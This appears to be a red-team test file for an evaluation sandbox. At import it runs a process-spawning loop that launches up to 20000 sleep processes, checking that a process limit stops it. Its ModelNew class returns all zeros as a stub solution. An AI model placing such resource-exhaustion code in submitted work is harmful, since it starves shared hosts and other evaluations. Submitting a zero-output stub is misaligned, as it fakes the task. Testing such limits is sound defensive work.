# ATTACK ON PURPOSE (red team, class "exhaustion"): a fork bomb at import: up to 20000 processes
# (`sleep 318.4417`, found by its command line), each a PID the host and every other evaluation
# then lack. At c44fc9a nothing capped it; the candidate's process now has an RLIMIT_NPROC
# (share/sandbox.json's `processes`), so the spawns fail with EAGAIN long before.
import os

import torch
import torch.nn as nn

made, why = 0, None
try:
    while made < 20000:
        os.posix_spawn("/bin/sleep", ["sleep", "318.4417"], {})
        made += 1
except OSError as e:
    why = e.strerror
print("FORK_BOMB %s after %d processes%s" % ("stopped" if why else "made all", made, ": " + why if why else ""),
      flush=True)


class ModelNew(nn.Module):
    def __init__(self, num_features, scale, clamp_min, clamp_max):
        super().__init__()
        self.bias = nn.Parameter(torch.empty(num_features))

    def forward(self, x):
        return torch.zeros_like(x)
